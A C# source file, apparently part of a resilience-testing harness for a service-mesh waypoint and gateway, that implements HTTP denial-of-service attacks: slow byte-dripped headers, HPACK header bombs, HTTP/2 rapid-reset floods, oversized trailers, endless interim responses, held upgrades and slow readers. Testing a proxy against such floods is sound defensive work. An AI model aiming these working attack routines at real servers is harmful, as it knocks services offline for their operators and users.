using System.Diagnostics.CodeAnalysis;
using System.Net;
using System.Net.Sockets;
using System.Text;
using Ambient.Hbone.Connect;
using Ambient.Hbone.Http2.Framing;
using Ambient.Testing.Http2;

namespace Ambient.Attack;

/// <summary>
/// What is done to the HTTP engine of a waypoint or gateway, by its clients and by an endpoint that is in league with them. What floods does so at a
/// rate: whoever attacks must not take the processor of the neighbour that is measured.
/// </summary>
internal static class EngineAttacks
{
    private const string Path = "/hostile";

    /// <summary>All of them, with where each is done.</summary>
    public static IReadOnlyList<(string Name, AttackTarget[] Targets, Func<Attacker, CancellationToken, Task> Run)> All { get; } =
    [
        ("heads that come a byte at a time, 200 of HTTP/1.1 and 100 of HTTP/2", Both, Run(SlowHeadsAsync)),
        ("heads of 100 KB, and header blocks that unpack to 60 MB, 6 MB/s", Both, Run(HeaderBombsAsync)),
        ("requests with bodies that are reset at once, 8,000 a second", Both, Run(RapidResetAsync)),
        ("trailers of 50 KB after each request, 10 MB/s", [AttackTarget.Gateway], Run(TrailersAsync)),
        ("interim responses without end", Both, Run(InterimAsync)),
        ("upgrades, 200 held and others that come and go", [AttackTarget.Gateway], Run(UpgradesAsync)),
        ("200 answers without end that nobody reads", Both, Run(SlowReadersAsync)),
    ];

    private static AttackTarget[] Both => [AttackTarget.Gateway, AttackTarget.Waypoint];

    /// <summary>Begins heads, and goes on with them a byte at a time.</summary>
    private static Task SlowHeadsAsync(EngineClient client, CancellationToken stop) => Task.WhenAll(
        Many(200, stop, async () =>
        {
            await using var stream = await client.OpenAsync("hostile", stop);
            await stream.WriteAsync(Text($"GET {Path} HTTP/1.1\r\nhost: a\r\nx-slow: "), stop);
            await DripAsync(() => stream.WriteAsync("a"u8.ToArray(), stop).AsTask(), stream, stop);
        }),
        Many(100, stop, async () =>
        {
            await using var stream = await client.OpenAsync("hostile", stop);
            var peer = new RudePeer(stream, isClient: true);
            await peer.HandshakeAsync();
            await peer.SendAsync(FrameType.Headers, FrameFlags.None, 1, [0x82]);
            await DripAsync(() => peer.SendAsync(FrameType.Continuation, FrameFlags.None, 1, [0x86]), stream, stop);
        }));

    /// <summary>Heads that are too large as they are, and such that only become so.</summary>
    private static Task HeaderBombsAsync(EngineClient client, CancellationToken stop) => Task.WhenAll(
        Many(4, stop, async () =>
        {
            await using var stream = await client.OpenAsync("hostile", stop);
            await stream.WriteAsync(Text($"GET {Path} HTTP/1.1\r\nhost: a\r\n{string.Concat(Enumerable.Range(0, 99).Select(i => $"x-{i}: {new string('v', 1000)}\r\n"))}\r\n"), stop);
            await DrainAsync(stream, stop);
            await Task.Delay(20, stop);
        }),
        Many(4, stop, async () =>
        {
            await using var stream = await client.OpenAsync("hostile", stop);
            var peer = new RudePeer(stream, isClient: true);
            await peer.HandshakeAsync();
            var reading = DrainAsync(stream, stop);
            byte[] entry = [0x40, 1, (byte)'x', 0x7f, 0x80 | ((3800 - 127) & 0x7f), (3800 - 127) >> 7, .. Enumerable.Repeat((byte)'v', 3800)];
            byte[] bomb = [0x82, 0x86, 0x84, 0x41, 1, (byte)'a', .. Enumerable.Repeat((byte)0xbe, 15_000)];
            await peer.SendAsync(FrameType.Headers, FrameFlags.EndHeaders | FrameFlags.EndStream, 1, [0x82, 0x86, 0x84, 0x41, 1, (byte)'a', .. entry]);
            for (var id = 3; id < 2001 && !reading.IsCompleted; id += 2)
            {
                await peer.SendAsync(FrameType.Headers, FrameFlags.EndHeaders | FrameFlags.EndStream, id, bomb);
                await Task.Delay(10, stop);
            }

            await stream.DisposeAsync();
            await reading;
        }));

    /// <summary>Begins requests, sends some of their bodies, and takes them back.</summary>
    private static Task RapidResetAsync(EngineClient client, CancellationToken stop) => Many(4, stop, async () =>
    {
        await using var stream = await client.OpenAsync("hostile", stop);
        var peer = new RudePeer(stream, isClient: true);
        await peer.HandshakeAsync();
        var reading = DrainAsync(stream, stop);
        var body = new byte[1000];
        for (var id = 1; id < 100_000 && !reading.IsCompleted && !stop.IsCancellationRequested; id += 2)
        {
            await peer.SendHeadersAsync(id, endStream: false, (":method", "POST"), (":scheme", "http"), (":authority", "a"), (":path", Path));
            await peer.SendDataAsync(id, body);
            await peer.SendResetAsync(id, Http2ErrorCode.Cancel);
            if (id % 20 == 1)
            {
                await Task.Delay(5, stop);
            }
        }

        await stream.DisposeAsync();
        await reading;
    });

    /// <summary>Requests whose trailers are as large as any may be.</summary>
    private static Task TrailersAsync(EngineClient client, CancellationToken stop) => Many(8, stop, async () =>
    {
        await using var stream = await client.OpenAsync("hostile", stop);
        var trailers = string.Concat(Enumerable.Range(0, 90).Select(i => $"x-{i}: {new string('t', 550)}\r\n"));
        var buffer = new byte[64 * 1024];
        while (!stop.IsCancellationRequested)
        {
            await stream.WriteAsync(Text($"POST {Path} HTTP/1.1\r\nhost: a\r\ntransfer-encoding: chunked\r\n\r\n1\r\nx\r\n0\r\n{trailers}\r\n"), stop);
            if (await stream.ReadAsync(buffer, stop) == 0)
            {
                return;
            }

            await Task.Delay(40, stop);
        }
    });

    /// <summary>The endpoint never comes to its answer.</summary>
    private static Task InterimAsync(EngineClient client, CancellationToken stop) => Many(16, stop, async () =>
    {
        await using var stream = await client.OpenAsync("hostile", stop);
        await stream.WriteAsync(Text($"GET {Path}/interim HTTP/1.1\r\nhost: a\r\n\r\n"), stop);
        await DrainAsync(stream, stop);
        await Task.Delay(20, stop);
    });

    /// <summary>Changes of protocol that stay, and such that end at once.</summary>
    private static Task UpgradesAsync(EngineClient client, CancellationToken stop)
    {
        return Task.WhenAll(
            Many(200, stop, async () =>
            {
                await using var stream = await UpgradeAsync();
                await DripAsync(() => stream.WriteAsync("x"u8.ToArray(), stop).AsTask(), stream, stop);
            }),
            Many(8, stop, async () =>
            {
                await (await UpgradeAsync()).DisposeAsync();
                await Task.Delay(20, stop);
            }));

        async Task<Stream> UpgradeAsync()
        {
            var stream = await client.OpenAsync("hostile", stop);
            await stream.WriteAsync(Text($"GET {Path}/up HTTP/1.1\r\nhost: a\r\nconnection: upgrade\r\nupgrade: echo\r\n\r\n"), stop);
            await stream.ReadExactlyAsync(new byte[20], stop);
            return stream;
        }
    }

    /// <summary>Answers without end that nobody reads: each on its connection, and fifty on each of four.</summary>
    private static Task SlowReadersAsync(EngineClient client, CancellationToken stop) => Task.WhenAll(
        Many(100, stop, async () =>
        {
            await using var stream = await client.OpenAsync("hostile", stop);
            await stream.WriteAsync(Text($"GET {Path}/big HTTP/1.1\r\nhost: a\r\n\r\n"), stop);
            await Task.Delay(Timeout.Infinite, stop);
        }),
        Many(2, stop, async () =>
        {
            await using var stream = await client.OpenAsync("hostile", stop);
            var peer = new RudePeer(stream, isClient: true);
            await peer.HandshakeAsync((SettingId.InitialWindowSize, int.MaxValue));
            await peer.SendWindowUpdateAsync(0, 1 << 30);
            for (var id = 1; id < 100; id += 2)
            {
                await peer.SendHeadersAsync(id, endStream: true, (":method", "GET"), (":scheme", "http"), (":authority", "a"), (":path", $"{Path}/big"));
            }

            await Task.Delay(Timeout.Infinite, stop);
        }));

    private static Func<Attacker, CancellationToken, Task> Run(Func<EngineClient, CancellationToken, Task> attack) => async (attacker, stop) =>
    {
        var kind = attacker.Target!.Port == 15008 ? AttackTarget.Waypoint : AttackTarget.Gateway;
        await using var client = new EngineClient(attacker.Target, kind, attacker.Svid, IPAddress.Parse(TargetHost.Attacker));
        await attack(client, stop);
    };

    /// <summary>Does something in many places at once, each again as soon as it was refused or is over.</summary>
    [SuppressMessage("Design", "CA1068", Justification = "What is done stands last, where it reads as a block.")]
    private static Task Many(int places, CancellationToken stop, Func<Task> action) => Task.WhenAll(Enumerable.Range(0, places).Select(_ => Task.Run(async () =>
    {
        while (!stop.IsCancellationRequested)
        {
            try
            {
                await action();
            }
            catch (Exception e) when (e is IOException or SocketException or HboneException or InvalidOperationException or OperationCanceledException or TimeoutException or ObjectDisposedException)
            {
                await Task.Delay(20, CancellationToken.None);
            }
        }
    })));

    private static async Task DripAsync(Func<Task> drop, Stream stream, CancellationToken stop)
    {
        var ended = DrainAsync(stream, stop);
        while (!stop.IsCancellationRequested && !ended.IsCompleted)
        {
            await drop();
            await Task.Delay(200, stop);
        }
    }

    private static async Task DrainAsync(Stream stream, CancellationToken stop)
    {
        try
        {
            var buffer = new byte[64 * 1024];
            while (await stream.ReadAsync(buffer, stop) > 0)
            {
            }
        }
        catch (Exception e) when (e is IOException or ObjectDisposedException or OperationCanceledException)
        {
        }
    }

    private static byte[] Text(string text) => Encoding.ASCII.GetBytes(text);
}
